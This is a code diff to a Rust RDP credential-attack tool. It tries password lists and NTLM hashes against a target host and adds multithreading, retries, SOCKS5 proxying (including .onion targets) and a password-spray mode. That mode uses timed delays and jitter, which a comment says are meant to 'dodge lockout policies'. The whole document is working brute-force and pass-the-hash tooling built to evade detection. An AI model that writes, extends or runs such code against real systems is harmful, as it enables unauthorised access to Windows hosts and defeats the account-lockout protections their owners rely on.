@@ -1,10 +1,18 @@
 use clap::Parser;
+use clap::ValueEnum;
+use rand::Rng;
 use rdp::core::client::Connector;
-use socks::Socks4Stream;
-use socks::TargetAddr;
+use socks::{Socks4Stream, Socks5Stream};
 use std::{
-    net::{SocketAddr, TcpStream},
+    collections::VecDeque,
+    net::TcpStream,
     path::PathBuf,
+    sync::{
+        atomic::{AtomicBool, Ordering},
+        mpsc, Arc, Mutex,
+    },
+    thread,
+    time::Duration,
 };
 
 // ref: https://users.rust-lang.org/t/hex-string-to-vec-u8/51903
@@ -20,10 +28,97 @@ fn hex_to_bytes(s: &str) -> Option<Vec<u8>> {
   }
 }
 
+// overwrite a transient String's bytes in place, so a secret copy doesn't linger
+// in freed memory after this String is dropped (0 is valid UTF-8, so this stays sound)
+fn scrub_string(s: &mut String) {
+    unsafe {
+        for byte in s.as_bytes_mut() {
+            std::ptr::write_volatile(byte, 0);
+        }
+    }
+}
+
+// read a line from the TTY with echo disabled, for --ask-password/--ask-hash
+fn read_secret_no_echo(prompt: &str) -> Result<SecretBytes, Box<dyn std::error::Error>> {
+    use std::io::Write;
+
+    print!("{}", prompt);
+    std::io::stdout().flush()?;
+
+    #[cfg(unix)]
+    {
+        use std::os::unix::io::AsRawFd;
+        use termios::{tcgetattr, tcsetattr, Termios, ECHO, TCSANOW};
+
+        let stdin_fd = std::io::stdin().as_raw_fd();
+        let original: Termios = tcgetattr(stdin_fd)?;
+
+        let mut no_echo = original;
+        no_echo.c_lflag &= !ECHO;
+        tcsetattr(stdin_fd, TCSANOW, &no_echo)?;
+
+        let read_result = (|| -> std::io::Result<String> {
+            let mut line = String::new();
+            std::io::stdin().read_line(&mut line)?;
+            Ok(line.trim_end_matches(['\n', '\r']).to_string())
+        })();
+
+        // restore the original termios even if the read above failed
+        tcsetattr(stdin_fd, TCSANOW, &original)?;
+        println!();
+
+        Ok(SecretBytes::new(read_result?.into_bytes()))
+    }
+
+    #[cfg(not(unix))]
+    {
+        let mut line = String::new();
+        std::io::stdin().read_line(&mut line)?;
+        println!();
+        Ok(SecretBytes::new(line.trim_end_matches(['\n', '\r']).as_bytes().to_vec()))
+    }
+}
+
+// holds a secret (password or NTLM hash) and zeroes it out on drop
+struct SecretBytes(Vec<u8>);
+
+impl SecretBytes {
+    fn new(bytes: Vec<u8>) -> Self {
+        SecretBytes(bytes)
+    }
+
+    fn as_bytes(&self) -> &[u8] {
+        &self.0
+    }
+}
+
+impl Clone for SecretBytes {
+    fn clone(&self) -> Self {
+        SecretBytes(self.0.clone())
+    }
+}
+
+impl std::fmt::Debug for SecretBytes {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "SecretBytes(<redacted>)")
+    }
+}
+
+impl Drop for SecretBytes {
+    fn drop(&mut self) {
+        for byte in self.0.iter_mut() {
+            // SAFETY: `byte` is a valid `&mut u8` for the lifetime of this write.
+            // write_volatile (vs. a plain assignment) stops the compiler from
+            // optimizing away a store nobody reads again.
+            unsafe { std::ptr::write_volatile(byte, 0) };
+        }
+    }
+}
+
 #[derive(Debug, Clone)]
 enum Credential {
-  Hash(Vec<u8>),
-  Password(String)
+  Hash(SecretBytes),
+  Password(SecretBytes)
 }
 
 impl std::fmt::Display for Credential {
@@ -31,10 +126,10 @@ impl std::fmt::Display for Credential {
     match self {
       Credential::Hash(hash) => {
         // ref: https://stackoverflow.com/a/62758411
-        write!(f, "[nlm: {:02x?}]", hash.iter().map(|x| format!("{:02x}", x)).collect::<String>())
+        write!(f, "[nlm: {:02x?}]", hash.as_bytes().iter().map(|x| format!("{:02x}", x)).collect::<String>())
       },
       Credential::Password(password) => {
-        write!(f, "[pass: '{}']", password)
+        write!(f, "[pass: '{}']", String::from_utf8_lossy(password.as_bytes()))
       }
     }
   }
@@ -45,16 +140,31 @@ struct CredentialSet {
     secret: Credential
 }
 
-#[derive(Debug, Clone, Parser)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+enum ProxyType {
+    Socks4,
+    Socks5,
+}
+
+#[derive(Clone, Parser)]
 struct ProgramOptions {
     #[arg(long, help="Windows logon domain. Optional, default is 'domain'")]
     logon_domain: Option<String>,
 
-    #[arg(long, help="A target IP:PORT pair")]
-    target: SocketAddr,
+    #[arg(long, help="A target host:port pair. Accepts a hostname (e.g. an .onion address) when --proxy is a SOCKS5 proxy, since it is resolved by the proxy rather than locally")]
+    target: String,
+
+    #[arg(long, help="A proxy host:port pair")]
+    proxy: Option<String>,
+
+    #[arg(long, help="The proxy protocol to use. Optional, default is 'socks4'", default_value="socks4")]
+    proxy_type: ProxyType,
+
+    #[arg(long, help="Username to authenticate to the proxy with (socks5 only). Requires --proxy-password", requires="proxy_password")]
+    proxy_username: Option<String>,
 
-    #[arg(long, help="A proxy IP:PORT pair")]
-    proxy: Option<SocketAddr>,
+    #[arg(long, help="Password to authenticate to the proxy with (socks5 only). Requires --proxy-username", requires="proxy_username")]
+    proxy_password: Option<String>,
 
     #[arg(long, help="A file path on disk to use for a password source")]
     password_list: Option<PathBuf>,
@@ -62,11 +172,57 @@ struct ProgramOptions {
     #[arg(long, help="A file on disk that contains hex-formatted NTLM hashes to connect with")]
     hash_list: Option<PathBuf>,
 
+    #[arg(long, help="Interactively prompt for a single password with echo disabled, instead of (or in addition to) --password-list")]
+    ask_password: bool,
+
+    #[arg(long, help="Interactively prompt for a single hex-formatted NTLM hash with echo disabled, instead of (or in addition to) --hash-list")]
+    ask_hash: bool,
+
     #[arg(long, help="A file on disk as a username source (if not used, specify --username)")]
     username_list: Option<PathBuf>,
 
     #[arg(long, help="A specific username to try (if not used, specify --username-list")]
     username: Option<String>,
+
+    #[arg(long, help="Number of worker threads to test credentials concurrently. Optional, default is 1", default_value_t = 1)]
+    threads: usize,
+
+    #[arg(long, help="Maximum retries for transient connection failures before giving up on a combo. Optional, default is 0", default_value_t = 0)]
+    max_retries: u32,
+
+    #[arg(long, help="Password-spray mode: try one secret across every username, sleeping --spray-delay between secrets, instead of exhausting all secrets for one username at a time")]
+    spray: bool,
+
+    #[arg(long, help="Seconds to sleep between secrets in --spray mode. Optional, default is 0", default_value_t = 0)]
+    spray_delay: u64,
+
+    #[arg(long, help="Randomize the --spray-delay by up to this many additional seconds, to avoid lockstep rounds. Optional, default is 0", default_value_t = 0)]
+    jitter: u64,
+}
+
+// proxy_username/proxy_password are redacted: this gets printed verbatim on every run
+impl std::fmt::Debug for ProgramOptions {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ProgramOptions")
+            .field("logon_domain", &self.logon_domain)
+            .field("target", &self.target)
+            .field("proxy", &self.proxy)
+            .field("proxy_type", &self.proxy_type)
+            .field("proxy_username", &self.proxy_username.as_ref().map(|_| "<redacted>"))
+            .field("proxy_password", &self.proxy_password.as_ref().map(|_| "<redacted>"))
+            .field("password_list", &self.password_list)
+            .field("hash_list", &self.hash_list)
+            .field("ask_password", &self.ask_password)
+            .field("ask_hash", &self.ask_hash)
+            .field("username_list", &self.username_list)
+            .field("username", &self.username)
+            .field("threads", &self.threads)
+            .field("max_retries", &self.max_retries)
+            .field("spray", &self.spray)
+            .field("spray_delay", &self.spray_delay)
+            .field("jitter", &self.jitter)
+            .finish()
+    }
 }
 
 impl std::fmt::Display for CredentialSet {
@@ -77,92 +233,183 @@ impl std::fmt::Display for CredentialSet {
 
 // Helper to create wordlists from a file.
 impl CredentialSet {
-    fn combos_with_username_and_wordlists(
-        username: Option<&String>,
-        username_list: Option<&std::path::PathBuf>,
+    // set passwords
+    fn load_credentials(
         wordlist: Option<&std::path::PathBuf>,
         hashlist: Option<&std::path::PathBuf>,
-    ) -> Result<Vec<CredentialSet>, Box<dyn std::error::Error>> {
+        ask_password: bool,
+        ask_hash: bool,
+    ) -> Result<Vec<Credential>, Box<dyn std::error::Error>> {
         let mut credentials = vec![];
 
-        let mut out = vec![];
-
-        // set passwords
         if let Some(wordlist) = wordlist {
           credentials.extend(std::fs::read_to_string(wordlist)?
             .split("\n")
-            .map(|v| Credential::Password(v.trim().to_string()))
+            .map(|v| Credential::Password(SecretBytes::new(v.trim().as_bytes().to_vec())))
             .collect::<Vec<Credential>>());
         }
 
+        if ask_password {
+            credentials.push(Credential::Password(read_secret_no_echo("password: ")?));
+        }
+
         if let Some(hashlist) = hashlist {
           credentials.extend(std::fs::read_to_string(hashlist)?
             .split("\n")
-            .map(|v| Credential::Hash(hex_to_bytes(&v.trim().to_lowercase()).expect("all hashes to to be hex-formatted NTLM Hashes")))
+            .map(|v| Credential::Hash(SecretBytes::new(hex_to_bytes(&v.trim().to_lowercase()).expect("all hashes to to be hex-formatted NTLM Hashes"))))
             .collect::<Vec<Credential>>());
         }
 
-        // add passwords from list to one username
+        if ask_hash {
+            let entered = read_secret_no_echo("ntlm hash (hex): ")?;
+            let mut hex = String::from_utf8_lossy(entered.as_bytes()).trim().to_lowercase();
+            let bytes = hex_to_bytes(&hex).expect("entered hash to be hex-formatted");
+            scrub_string(&mut hex);
+            credentials.push(Credential::Hash(SecretBytes::new(bytes)));
+        }
+
+        Ok(credentials)
+    }
+
+    fn load_usernames(
+        username: Option<&String>,
+        username_list: Option<&std::path::PathBuf>,
+    ) -> Result<Vec<String>, Box<dyn std::error::Error>> {
+        let mut usernames = vec![];
+
         if let Some(username) = username {
-            // add username/pass combos
-            for credential in &credentials {
-                out.push(CredentialSet {
-                    username: username.into(),
-                    secret: credential.clone()
-                });
-            }
+            usernames.push(username.clone());
         }
 
-        // if has username list, add combos O((n*m)^2)
         if let Some(username_list) = username_list {
-            let usernames = std::fs::read_to_string(username_list)?
+            usernames.extend(std::fs::read_to_string(username_list)?
                 .split("\n")
                 .map(|v| v.trim().to_string())
-                .collect::<Vec<String>>();
-
-            // add each pair
-            for username in &usernames {
-                for credential in &credentials {
-                    out.push(CredentialSet {
-                        username: username.into(),
-                        secret: credential.clone()
-                    });
-                }
+                .collect::<Vec<String>>());
+        }
+
+        Ok(usernames)
+    }
+
+    fn combos_with_username_and_wordlists(
+        username: Option<&String>,
+        username_list: Option<&std::path::PathBuf>,
+        wordlist: Option<&std::path::PathBuf>,
+        hashlist: Option<&std::path::PathBuf>,
+        ask_password: bool,
+        ask_hash: bool,
+    ) -> Result<Vec<CredentialSet>, Box<dyn std::error::Error>> {
+        let credentials = Self::load_credentials(wordlist, hashlist, ask_password, ask_hash)?;
+        let usernames = Self::load_usernames(username, username_list)?;
+
+        let mut out = vec![];
+
+        // username-major: O(n*m), exhausts every secret for one username before moving on
+        for username in &usernames {
+            for credential in &credentials {
+                out.push(CredentialSet {
+                    username: username.into(),
+                    secret: credential.clone()
+                });
             }
         }
 
         Ok(out)
     }
+
+    // same combos as above, grouped one round per secret, for --spray
+    fn spray_rounds_with_username_and_wordlists(
+        username: Option<&String>,
+        username_list: Option<&std::path::PathBuf>,
+        wordlist: Option<&std::path::PathBuf>,
+        hashlist: Option<&std::path::PathBuf>,
+        ask_password: bool,
+        ask_hash: bool,
+    ) -> Result<Vec<Vec<CredentialSet>>, Box<dyn std::error::Error>> {
+        let credentials = Self::load_credentials(wordlist, hashlist, ask_password, ask_hash)?;
+        let usernames = Self::load_usernames(username, username_list)?;
+
+        Ok(credentials
+            .into_iter()
+            .map(|credential| {
+                usernames
+                    .iter()
+                    .map(|username| CredentialSet {
+                        username: username.clone(),
+                        secret: credential.clone(),
+                    })
+                    .collect()
+            })
+            .collect())
+    }
+}
+
+// Transport errors (reaching the target, directly or through the proxy) are retried.
+// Auth is any error from the RDP handshake once connected, a rejected login included;
+// a connection dropped during the handshake is also reported as Auth and is not retried.
+#[derive(Debug)]
+enum ComboError {
+    Transport(std::io::Error),
+    Auth(rdp::model::error::Error),
+}
+
+impl std::fmt::Display for ComboError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ComboError::Transport(e) => write!(f, "transport error: {}", e),
+            ComboError::Auth(e) => write!(f, "auth rejected: {:?}", e),
+        }
+    }
 }
 
 /// Try a password combo.
 /// Returns true if successful, false otherwise.
-fn try_combo(
-    connection: &ProgramOptions,
-    combo: &CredentialSet,
-) -> Result<(), rdp::model::error::Error> {
-    let tcp = match connection.proxy {
-        Some(proxy_addr) => {
-            let socks_tcp = Socks4Stream::connect(
-                TargetAddr::Ip(proxy_addr),
-                TargetAddr::Ip(connection.target),
-                "",
-            )
-            .unwrap();
-
-            socks_tcp.into_inner()
-        }
-        None => TcpStream::connect(connection.target).expect("target ip to connect successfully"),
+fn try_combo(connection: &ProgramOptions, combo: &CredentialSet) -> Result<(), ComboError> {
+    let tcp = match &connection.proxy {
+        Some(proxy_addr) => match connection.proxy_type {
+            ProxyType::Socks5 => {
+                let socks_tcp = match (&connection.proxy_username, &connection.proxy_password) {
+                    (Some(username), Some(password)) => Socks5Stream::connect_with_password(
+                        proxy_addr.as_str(),
+                        connection.target.as_str(),
+                        username,
+                        password,
+                    ),
+                    _ => Socks5Stream::connect(proxy_addr.as_str(), connection.target.as_str()),
+                }
+                .map_err(ComboError::Transport)?;
+
+                socks_tcp.into_inner()
+            }
+            ProxyType::Socks4 => {
+                let socks_tcp = Socks4Stream::connect(
+                    proxy_addr.as_str(),
+                    connection.target.as_str(),
+                    "",
+                )
+                .map_err(ComboError::Transport)?;
+
+                socks_tcp.into_inner()
+            }
+        },
+        None => TcpStream::connect(&connection.target).map_err(ComboError::Transport)?,
     };
 
     // make a session connector
     let mut connector = match &combo.secret {
       Credential::Password(password) => {
-        Connector::new().screen(800, 600).credentials(
+        let mut plaintext = String::from_utf8_lossy(password.as_bytes()).into_owned();
+        let connector = Connector::new().screen(800, 600).credentials(
           connection.logon_domain.clone().unwrap_or("domain".into()),
           combo.username.clone(),
-          password.clone(),
-        )
+          plaintext.clone(),
+        );
+
+        // Connector::credentials() takes its own copy of the password, which is out
+        // of our hands - but scrub ours here instead of letting it sit in freed memory.
+        scrub_string(&mut plaintext);
+
+        connector
       },
       Credential::Hash(ntlm_hash) => {
         let connector = Connector::new().screen(800, 600).credentials(
@@ -171,7 +418,7 @@ fn try_combo(
             "".into(),
         );
 
-        connector.set_password_hash(ntlm_hash.to_vec())
+        connector.set_password_hash(ntlm_hash.as_bytes().to_vec())
       }
     };
 
@@ -181,10 +428,106 @@ fn try_combo(
             client.shutdown().unwrap();
             Ok(())
         }
-        Err(e) => return Err(e),
+        Err(e) => Err(ComboError::Auth(e)),
     }
 }
 
+// retry try_combo on transient transport errors with backoff + jitter
+fn try_combo_with_retries(connection: &ProgramOptions, combo: &CredentialSet) -> Result<(), ComboError> {
+    const BASE_DELAY: Duration = Duration::from_millis(250);
+    const MAX_DELAY: Duration = Duration::from_secs(10);
+
+    let mut attempt = 0;
+
+    loop {
+        match try_combo(connection, combo) {
+            Ok(()) => return Ok(()),
+            Err(ComboError::Auth(e)) => return Err(ComboError::Auth(e)),
+            Err(err @ ComboError::Transport(_)) => {
+                if attempt >= connection.max_retries {
+                    return Err(err);
+                }
+
+                let backoff = BASE_DELAY.saturating_mul(1 << attempt.min(16)).min(MAX_DELAY);
+                let jitter = Duration::from_millis(rand::thread_rng().gen_range(0..=backoff.as_millis() as u64 / 2));
+                thread::sleep(backoff + jitter);
+
+                attempt += 1;
+            }
+        }
+    }
+}
+
+// run the worker pool over one batch of combos; returns true once one succeeds
+fn run_pool(
+    opts: &Arc<ProgramOptions>,
+    combos: Vec<CredentialSet>,
+    start_index: usize,
+    found: &Arc<AtomicBool>,
+) -> bool {
+    // shared work queue: each worker pops a combo and tries it independently
+    let queue = Arc::new(Mutex::new(
+        combos
+            .into_iter()
+            .enumerate()
+            .map(|(i, combo)| (start_index + i, combo))
+            .collect::<VecDeque<(usize, CredentialSet)>>(),
+    ));
+
+    let (tx, rx) = mpsc::channel();
+    let num_threads = opts.threads.max(1);
+
+    let handles: Vec<_> = (0..num_threads)
+        .map(|_| {
+            let opts = Arc::clone(opts);
+            let queue = Arc::clone(&queue);
+            let found = Arc::clone(found);
+            let tx = tx.clone();
+
+            thread::spawn(move || {
+                loop {
+                    if found.load(Ordering::SeqCst) {
+                        break;
+                    }
+
+                    let (i, combo) = match queue.lock().unwrap().pop_front() {
+                        Some(next) => next,
+                        None => break,
+                    };
+
+                    let result = try_combo_with_retries(&opts, &combo);
+                    let success = result.is_ok();
+
+                    if tx.send((i, combo, result)).is_err() {
+                        break;
+                    }
+
+                    if success {
+                        found.store(true, Ordering::SeqCst);
+                        break;
+                    }
+                }
+            })
+        })
+        .collect();
+
+    // drop our own sender so the receiver loop ends once every worker's clone is dropped
+    drop(tx);
+
+    for (i, combo, result) in rx {
+        match result {
+            Ok(_) => println!("#{}: try: {} -> success!!", i, combo),
+            Err(e) => println!("#{}: try: {} -> fail {}", i, combo, e),
+        }
+    }
+
+    for handle in handles {
+        handle.join().expect("worker thread to not panic");
+    }
+
+    found.load(Ordering::SeqCst)
+}
+
 fn main() {
     let opts = ProgramOptions::parse();
 
@@ -196,31 +539,64 @@ fn main() {
         std::process::exit(1);
     }
 
-    // make a wordlist
-    let to_try = CredentialSet::combos_with_username_and_wordlists(
-        opts.username.as_ref(),
-        opts.username_list.as_ref(),
-        opts.password_list.as_ref(),
-        opts.hash_list.as_ref()
-    )
-    .expect("wordlist to load successfully");
+    // make a wordlist. --spray groups combos into one round per secret instead of
+    // one flat list, so a sleep can be inserted between rounds.
+    let rounds = if opts.spray {
+        CredentialSet::spray_rounds_with_username_and_wordlists(
+            opts.username.as_ref(),
+            opts.username_list.as_ref(),
+            opts.password_list.as_ref(),
+            opts.hash_list.as_ref(),
+            opts.ask_password,
+            opts.ask_hash,
+        )
+        .expect("wordlist to load successfully")
+    } else {
+        vec![CredentialSet::combos_with_username_and_wordlists(
+            opts.username.as_ref(),
+            opts.username_list.as_ref(),
+            opts.password_list.as_ref(),
+            opts.hash_list.as_ref(),
+            opts.ask_password,
+            opts.ask_hash,
+        )
+        .expect("wordlist to load successfully")]
+    };
 
     // print info
-    println!("got {} credential pairs to try.", to_try.len());
-    if to_try.len() == 0 {
+    let total = rounds.iter().map(|round| round.len()).sum::<usize>();
+    println!("got {} credential pairs to try.", total);
+    if total == 0 {
         panic!("critical: no entries in credential list")
     }
 
-    // try each combo and print status
-    for (i, combo) in to_try.iter().enumerate() {
-        print!("#{}: try: {} -> ", i, combo);
-        match try_combo(&opts, &combo) {
-            Ok(_) => {
-                println!("success!!");
-                break;
-            }
-            Err(e) => {
-                println!("fail {:?}", e)
+    // set as soon as any worker finds a working combo, so the rest of the pool stops early
+    let found = Arc::new(AtomicBool::new(false));
+    let opts = Arc::new(opts);
+    let num_rounds = rounds.len();
+    let mut index = 0;
+
+    for (round_num, round) in rounds.into_iter().enumerate() {
+        let round_len = round.len();
+        let success = run_pool(&opts, round, index, &found);
+        index += round_len;
+
+        if success {
+            break;
+        }
+
+        // dodge lockout policies by spacing out secrets instead of trying them in lockstep
+        if opts.spray && round_num + 1 < num_rounds {
+            let extra = if opts.jitter > 0 {
+                rand::thread_rng().gen_range(0..=opts.jitter)
+            } else {
+                0
+            };
+            let delay = Duration::from_secs(opts.spray_delay + extra);
+
+            if !delay.is_zero() {
+                println!("spray: waiting {:?} before trying the next secret...", delay);
+                thread::sleep(delay);
             }
         }
     }